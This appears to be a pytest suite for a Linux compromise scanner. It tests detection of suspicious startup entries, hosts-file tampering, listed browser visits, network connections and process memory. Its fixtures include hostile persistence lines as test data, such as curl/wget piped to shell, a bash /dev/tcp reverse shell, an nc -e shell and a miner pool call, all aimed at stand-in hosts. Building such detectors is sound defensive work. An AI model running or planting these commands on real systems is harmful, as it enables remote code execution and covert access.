"""The checks of Linux on a made-up machine: a folder that stands for `/`."""

from __future__ import annotations

import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import psutil
import pytest

from lamsach.errors import UsageError
from lamsach.scanner.checks.browsers import check_browsers
from lamsach.scanner.checks.context import Context
from lamsach.scanner.checks.event_logs import search_event_log
from lamsach.scanner.checks.memory import memory_of
from lamsach.scanner.checks.names import check_names
from lamsach.scanner.checks.processes import canonical_address, check_connections, check_processes
from lamsach.scanner.checks.settings import check_proxy
from lamsach.scanner.checks.start_linux import start_linux
from lamsach.scanner.checks.tools import output_of
from lamsach.scanner.clamd import parse_address
from lamsach.scanner.control import Control, Stopped
from lamsach.scanner.index import Index, build_index
from lamsach.scanner.look import look
from lamsach.scanner.mounts import read_mounts
from lamsach.scanner.opening import Skipped
from lamsach.scanner.options import Mode, Options

from .planted import EICAR

LISTED = (
    "evil.example.com",
    "203.0.113.9",
    "198.51.100.0/24",
    "http://bad.example.net/drop",
    "2001:db8:bad::1",
)


@pytest.fixture
def context(tmp_path: Path) -> Iterator[Context]:
    (tmp_path / "list.txt").write_text("\n".join(LISTED) + "\n")
    loaded = build_index([str(tmp_path / "list.txt")])
    root = tmp_path / "root"
    root.mkdir()
    index = Index(loaded.path)
    yield Context(Options(root=str(root), lists=[str(tmp_path / "list.txt")]), index, Control())
    index.close()
    loaded.close()


def write(context: Context, path: str, text: str) -> Path:
    file = context.root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
    return file


STARTS = [
    (
        "etc/systemd/system/x.service",
        "[Service]\nExecStart=-/bin/sh -c 'curl http://192.0.2.1/x | sh'\n",
        "start_habit",
    ),
    (
        "etc/systemd/system/x.service",
        "[Service]\nExecStart=/opt/x --server evil.example.com\n",
        "listed_start",
    ),
    ("home/nam/.config/systemd/user/x.service", "[Service]\nExecStart=/dev/shm/.x/kworker\n", "start_habit"),
    ("etc/crontab", "* * * * * root wget -qO- http://bad.example.net/drop/a | bash\n", "listed_start"),
    ("etc/cron.d/x", "@reboot root echo aGk= | base64 -d | sh\n", "start_habit"),
    ("var/spool/cron/crontabs/nam", "*/5 * * * * bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n", "start_habit"),
    ("etc/cron.hourly/x", "#!/bin/sh\nnc 198.51.100.77 4444 -e /bin/sh\n", "listed_start"),
    ("etc/rc.local", "#!/bin/sh\n/tmp/.cache/x &\n", "start_habit"),
    ("home/nam/.bashrc", "alias ls='ls --color'\nxmr -o stratum+tcp://pool.example:3333\n", "start_habit"),
    ("home/nam/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/var/tmp/.hidden/a\n", "start_habit"),
    ("etc/ld.so.preload", "/usr/local/lib/libhide.so\n", "preload"),
    ("root/.ssh/authorized_keys", "ssh-rsa AAAAB3Nza mdrfckr\n", "known_key"),
]
ORDINARY = [
    (
        "etc/systemd/system/a.service",
        "[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\nExecReload=/bin/kill -HUP $MAINPID\n",
    ),
    (
        "etc/crontab",
        "# a comment: curl http://x | sh\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n",
    ),
    (
        "home/nam/.bashrc",
        '[ -z "$PS1" ] && return\nexport PATH=$HOME/bin:$PATH\nsource /etc/bash_completion\n',
    ),
    ("etc/profile.d/x.sh", "export TMPDIR=/tmp/build\n"),
    ("root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nza admin@unit.example\n"),
    ("etc/cron.d/certs", "0 3 * * * root test -x /usr/bin/certbot && certbot -q renew\n"),
]


@pytest.mark.parametrize(("path", "text", "reason"), STARTS)
def test_what_starts_by_itself(context: Context, path: str, text: str, reason: str) -> None:
    file = write(context, path, text)
    start_linux(context)
    assert (reason, str(file)) in {(finding.reason, finding.subject) for finding in context.findings}
    assert all(
        finding.target is not None and finding.target.path == str(file) for finding in context.findings
    )
    assert context.counts.start_entries > 0


@pytest.mark.parametrize(("path", "text"), ORDINARY)
def test_ordinary_starts(context: Context, path: str, text: str) -> None:
    write(context, path, text)
    start_linux(context)
    assert not context.findings


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("127.0.0.1 activate.adobe.com", "hosts_activation"),
        ("0.0.0.0 lmlicenses.wip4.adobe.com # x", "hosts_activation"),
        ("127.0.0.1 www.kaspersky.com", "hosts_protection"),
        ("192.0.2.4 definitionupdates.microsoft.com", "hosts_protection"),
        ("203.0.113.9 bank.example.org", "listed_hosts"),
        ("192.0.2.4 www.evil.example.com", "listed_hosts"),
        ("0.0.0.0 evil.example.com", None),
        ("127.0.0.1 localhost printer.unit.example", None),
        ("# 127.0.0.1 activate.adobe.com", None),
        ("not an address", None),
        ("\ud800", None),
    ],
)
def test_hosts(context: Context, line: str, reason: str | None) -> None:
    file = context.root / "etc/hosts"
    file.parent.mkdir()
    file.write_bytes(f"::1 localhost\n{line}\n".encode("utf-8", "surrogatepass"))
    check_names(context)
    assert {finding.reason for finding in context.findings} == ({reason} if reason else set())


def test_resolver_and_proxy(context: Context) -> None:
    write(context, "etc/resolv.conf", "nameserver 198.51.100.53\nnameserver 192.0.2.53\n")
    write(context, "etc/hosts", "")
    write(context, "etc/environment", "PATH=/bin\nhttp_proxy=http://evil.example.com:3128\n")
    check_names(context)
    check_proxy(context)
    assert [finding.reason for finding in context.findings] == ["listed_resolver", "listed_proxy"]
    assert context.findings[1].target is not None
    assert context.findings[1].target.text == "http_proxy=http://evil.example.com:3128"


@pytest.mark.parametrize(
    ("name", "schema", "row"),
    [
        (
            "home/nam/.config/chromium/Default/History",
            "urls (url, last_visit_time)",
            ("http://evil.example.com/a", 13300000000000000),
        ),
        (
            "home/nam/.mozilla/firefox/x.default/places.sqlite",
            "moz_places (url, last_visit_date)",
            ("http://bad.example.net/drop?x=1", 1660000000000000),
        ),
        (
            "home/nam/.config/chromium/Profile 1/History",
            "urls (url, last_visit_time)",
            ("https://198.51.100.4/", "broken"),
        ),
    ],
)
def test_visits(context: Context, name: str, schema: str, row: tuple[Any, ...]) -> None:
    file = context.root / name
    file.parent.mkdir(parents=True)
    base = sqlite3.connect(file)
    base.execute(f"CREATE TABLE {schema}")
    base.executemany(f"INSERT INTO {schema.split()[0]} VALUES (?, ?)", [row, ("https://unit.example/", 1)])
    base.commit()
    base.close()
    before = file.read_bytes()
    check_browsers(context)
    (finding,) = context.findings
    assert (finding.reason, finding.detail) == ("listed_visit", row[0])
    assert (finding.time is None) == isinstance(row[1], str)
    assert file.read_bytes() == before


def test_a_damaged_history_is_listed(context: Context) -> None:
    write(context, "home/nam/.config/chromium/Default/History", "no database")
    check_browsers(context)
    assert [skip.reason for skip in context.skips] == ["damaged"]


def test_outside_extensions(context: Context) -> None:
    profile = "home/nam/.config/chromium/Default"
    (context.root / profile / "Extensions").mkdir(parents=True)
    write(
        context,
        f"{profile}/Preferences",
        '{"extensions": {"settings": {"a": {"location": 4, "path": "/x", "manifest": {"name": "Odd"}}, "b": {"location": 1}, "c": 7}}}',
    )
    check_browsers(context)
    assert [finding.values["name"] for finding in context.findings] == ["Odd"]


@pytest.mark.parametrize("text", ["", "[]", '{"extensions": 3}', "[" * 100_000])
def test_broken_preferences(context: Context, text: str) -> None:
    profile = "home/nam/.config/chromium/Default"
    (context.root / profile / "Extensions").mkdir(parents=True)
    write(context, f"{profile}/Preferences", text)
    check_browsers(context)
    assert not context.findings


def test_connections(context: Context, monkeypatch: pytest.MonkeyPatch) -> None:
    def made(address: str) -> SimpleNamespace:
        return SimpleNamespace(raddr=SimpleNamespace(ip=address, port=443), pid=None, status="ESTABLISHED")

    seen = [
        made(address)
        for address in ("198.51.100.7", "::ffff:203.0.113.9", "192.0.2.1", "2001:db8:bad::1", "fe80::1%eth0")
    ]
    monkeypatch.setattr(
        psutil, "net_connections", lambda _: [*seen, SimpleNamespace(raddr=(), pid=1, status="LISTEN")]
    )
    check_connections(context)
    assert [finding.indicator for finding in context.findings] == [
        "198.51.100.0/24",
        "203.0.113.9",
        "2001:db8:bad::1",
    ]
    assert context.counts.connections == 5
    monkeypatch.setattr(psutil, "net_connections", lambda _: (_ for _ in ()).throw(psutil.AccessDenied()))
    check_connections(context)
    assert [skip.reason for skip in context.skips] == ["no_right"]


def test_addresses() -> None:
    assert [canonical_address(text) for text in ("::FFFF:1.2.3.4", "FE80::1%eth0", "x")] == [
        "1.2.3.4",
        "fe80::1",
        None,
    ]


@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
def test_processes_and_memory(context: Context, tmp_path: Path) -> None:
    secret = "memory_" + "miner_" + "donate.v2." + "xmrig.com"
    code = f"import time; a = 'donate.v2.' + 'xmrig.com' + ' random' + 'x crypto' + 'night'; print('{len(secret)}', flush=True); time.sleep(60)"
    # Not our child: its family's memory is not searched.
    starter = f"import subprocess,sys; p = subprocess.Popen([sys.executable, '-c', {code!r}], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL); p.stdout.readline(); print(p.pid)"
    pid = int(
        subprocess.run([sys.executable, "-c", starter], capture_output=True, check=True, text=True).stdout
    )
    try:
        context.options = Options(root="/")
        check_processes(context)
        found = {(finding.reason, finding.target.pid) for finding in context.findings if finding.target}
        assert ("memory_rule", pid) in found
        assert context.counts.processes > 0
    finally:
        psutil.Process(pid).kill()


@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
def test_a_process_that_vanished() -> None:
    ended = subprocess.Popen(["true"])
    ended.wait()
    with pytest.raises(Skipped, match="vanished"):
        list(memory_of(ended.pid, 1 << 20))


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        (["true"], "tool_empty"),
        (["false"], "tool_failed"),
        (["no-such-program"], "tool_missing"),
        (["sleep", "5"], "tool_slow"),
    ],
)
def test_a_tool_that_says_nothing_is_no_proof(command: list[str], reason: str) -> None:
    with pytest.raises(Skipped) as skipped:
        output_of(command, seconds=0.3)
    assert skipped.value.reason == reason


def test_a_whole_look_at_a_mounted_disk(context: Context) -> None:
    write(context, "etc/hosts", "127.0.0.1 activate.adobe.com\n")
    write(context, "etc/cron.d/x", "@reboot root /opt/svc/run\n")
    (context.root / "opt/svc").mkdir(parents=True)
    (context.root / "opt/svc/bad.com").write_bytes(EICAR)
    result = look(
        Options(mode=Mode.QUICK, root=str(context.root), lists=context.options.lists, jobs=0, nice=False)
    )
    assert {finding.reason for finding in result.findings} == {"hosts_activation", "own_rule"}
    assert "processes" not in result.checks


def test_stop_pause_and_time() -> None:
    seen = []
    control = Control(seen.append, seconds=1000)
    control.total_bytes = 100
    control.step(1, 50)
    assert control.progress().remaining_s is not None
    control.pause()
    assert control.progress().paused
    control.resume()
    control.check()
    control.stop()
    with pytest.raises(Stopped):
        control.check()
    with pytest.raises(Stopped, match="time"):
        Control(seconds=0).check()


def test_a_look_that_is_stopped_keeps_what_it_found(tmp_path: Path) -> None:
    for number in range(5):
        (tmp_path / f"{number}.com").write_bytes(EICAR)
    control = Control(lambda seen: control.stop() if seen.files >= 2 else None)
    control._last = -1
    control.tell = lambda *, force=False: control._on_progress(control.progress())  # type: ignore[method-assign]
    result = look(Options(mode=Mode.PATHS, paths=[str(tmp_path)], jobs=0, nice=False), control)
    assert result.stopped == "user"
    assert 0 < len(result.findings) < 5


@pytest.mark.parametrize("address", ["192.0.2.1:3310", "example.com:3310", "127.0.0.1:0", "127.0.0.1", "x"])
def test_clamd_runs_on_this_machine_only(address: str) -> None:
    with pytest.raises(UsageError):
        parse_address(address)


def test_mounts(tmp_path: Path) -> None:
    import os

    (tmp_path / "m").write_text(
        "22 1 0:21 / /proc rw - proc proc rw\n23 1 0:40 / /net rw shared:1 - nfs4 srv:/ rw\n24 1 8:1 / / rw - ext4 /dev/sda1 rw\nbroken\n"
    )
    mounts = read_mounts(str(tmp_path / "m"))
    assert [mounts.refusal(os.makedev(*pair)) for pair in ((0, 21), (0, 40), (8, 1))] == [
        "pseudo",
        "remote",
        None,
    ]


SAMPLES = Path(__file__).parents[2] / "../shared/samples/evtx/files"


@pytest.mark.skipif(not SAMPLES.is_dir(), reason="the samples are not here")
def test_event_logs(context: Context, tmp_path: Path) -> None:
    file = next(SAMPLES.glob("*DE_RDP_Tunnel_5156.evtx"))
    (tmp_path / "l.txt").write_text("ff02::1:2\n")
    with sqlite3.connect(context.index._path.replace("list.db", "two.db")) as base:
        base.execute(
            "CREATE TABLE entry (value TEXT, type TEXT, threat TEXT, source TEXT, place TEXT, PRIMARY KEY (value, type)) WITHOUT ROWID"
        )
        base.execute("INSERT INTO entry VALUES ('10.0.2.18', 'ip', 'bot', '', 'l.txt:1')")
    base.close()
    context.index = Index(context.index._path.replace("list.db", "two.db"))
    search_event_log(context, str(file))
    assert context.counts.events == 101
    assert {(finding.values["event"], finding.values["channel"]) for finding in context.findings} == {
        (5156, "Security")
    }
    damaged = tmp_path / "d.evtx"
    data = bytearray(file.read_bytes())
    data[5000:9000] = b"\xff" * 4000
    damaged.write_bytes(data)
    search_event_log(context, str(damaged))
    (tmp_path / "e.evtx").write_bytes(b"ElfFile\0" + b"\0" * 10)
    search_event_log(context, str(tmp_path / "e.evtx"))
    assert str(tmp_path / "e.evtx") in {skip.subject for skip in context.skips}
